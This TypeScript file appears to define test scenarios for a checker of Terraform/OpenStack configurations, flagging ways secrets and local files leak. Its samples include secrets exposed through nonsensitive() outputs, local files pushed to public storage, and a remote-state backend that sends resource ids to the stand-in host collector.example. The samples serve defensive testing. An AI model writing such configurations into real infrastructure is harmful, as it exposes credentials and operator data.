import { add, read, scenariosOf } from "../../scenario";
import { LATER } from "../code/parts";
import { readsLater } from "../code/parts";
import { PASSWORD } from "./parts";

const { forbidden, person } = scenariosOf("secrets");

/** Secrets and files that leave. */
export const LEAVING = [
  forbidden(
    "secret-keymanager-read",
    "revidr",
    "a secret of the key manager becomes an output",
    "A secret is written in clear.",
    (config) => {
      add(config, "openstack_networking_secgroup_v2", "later", { name: "revidr-later" });
      read(config, "openstack_keymanager_secret_v1", "db", {
        name: "db",
        depends_on: ["openstack_networking_secgroup_v2.later"],
      });
      (config.output ??= {})["db"] = {
        value: "${nonsensitive(data.openstack_keymanager_secret_v1.db.payload)}",
      };
    },
  ),
  forbidden(
    "secret-nonsensitive",
    "revidr",
    "a sensitive variable's value becomes an open output",
    "A secret is written in clear.",
    (config) => {
      config.variable = { db_password: { type: "string", sensitive: true, default: PASSWORD } };
      (config.output ??= {})["login"] = { value: "${nonsensitive(var.db_password)}" };
    },
  ),
  forbidden(
    "secret-output-literal",
    "revidr",
    "an output with a password in it",
    "A secret is written in clear.",
    (config) =>
      void ((config.output ??= {})["login"] = { value: `postgres://omero:${PASSWORD}@revidr-database/idr` }),
  ),
  person(
    "secret-output-sensitive",
    "revidr",
    "a sensitive output",
    "It is kept in the state in clear.",
    (config) => void ((config.output ??= {})["login"] = { value: PASSWORD, sensitive: true }),
  ),
  forbidden(
    "secret-temp-url",
    "site",
    "a link to an object that needs no login",
    "Whoever has it reads the object.",
    (config) =>
      add(config, "openstack_objectstorage_tempurl_v1", "dump", {
        container: "dumps",
        object: "idr.sql.gz",
        method: "get",
        ttl: 31536000,
      }),
  ),
  forbidden(
    "secret-object-upload",
    "site",
    "a file of the operator's machine goes into the object store",
    "What stands in that file leaves.",
    (config) =>
      add(config, "openstack_objectstorage_object_v1", "dump", {
        container_name: "dumps",
        name: "x",
        source: "/etc/debian_version",
      }),
  ),
  person(
    "secret-container-public",
    "site",
    "a container that everybody reads",
    "What is put there is public.",
    (config) =>
      add(config, "openstack_objectstorage_container_v1", "dumps", {
        name: "dumps",
        container_read: ".r:*,.rlistings",
      }),
  ),
  forbidden(
    "secret-image-upload",
    "site",
    "a file of the operator's machine becomes a public image",
    "What stands in that file leaves.",
    (config) =>
      add(config, "openstack_images_image_v2", "extra", {
        name: "extra",
        local_file_path: "/etc/debian_version",
        container_format: "bare",
        disk_format: "raw",
        visibility: "public",
      }),
  ),
  forbidden(
    "secret-db-user",
    "revidr",
    "a user of a database service with a password",
    "A secret is written in clear.",
    (config) =>
      add(config, "openstack_db_user_v1", "omero", {
        name: "omero",
        instance_id: "2f1cbb6a-1c0b-4f6a-9d0f-3c0d5b0c1a2e",
        password: PASSWORD,
      }),
  ),
  forbidden(
    "secret-remote-state",
    "revidr",
    "a state is asked for at a stranger's, with ids of ours in the question",
    "What the plan knows leaves.",
    {
      config: (config) => {
        readsLater(config);
        const later = config.data!["terraform_remote_state"]!["later"]!;
        later["backend"] = "http";
        later["config"] = {
          address: "https://collector.example/${openstack_networking_secgroup_v2.later.id}",
        };
      },
    },
  ),
  person(
    "secret-other-state",
    "revidr",
    "the stack reads another state",
    "Its secrets come into this one.",
    LATER,
  ),
  person(
    "secret-scope",
    "revidr",
    "who the operator is becomes an output",
    "Names and roles of the operator are kept in the state.",
    (config) => {
      add(config, "openstack_networking_secgroup_v2", "later", { name: "revidr-later" });
      read(config, "openstack_identity_auth_scope_v3", "me", {
        name: "me",
        depends_on: ["openstack_networking_secgroup_v2.later"],
      });
      (config.output ??= {})["me"] = { value: "${data.openstack_identity_auth_scope_v3.me.user_name}" };
    },
  ),
];
